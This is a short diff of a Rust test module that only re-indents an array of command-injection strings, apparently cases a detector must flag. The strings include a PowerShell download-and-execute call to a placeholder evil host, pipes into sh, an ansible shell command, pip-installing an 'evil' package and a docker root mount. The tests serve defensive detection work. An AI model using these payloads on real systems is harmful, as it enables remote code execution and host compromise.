@@ -1863,11 +1863,11 @@ mod tests {
         "; IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')",
         "whoami|sh",
         "x; ansible localhost -m shell -a id",
-    "q|pip3 install --user evil",
-    ";flock -u / sh",
-    "1 && docker run -v /:/mnt alpine",
-    "a; perf --version",
-];
+        "q|pip3 install --user evil",
+        ";flock -u / sh",
+        "1 && docker run -v /:/mnt alpine",
+        "a; perf --version",
+    ];
 
     /// Benign inputs: none may be flagged.
     const BENIGN: &[&str] = &[
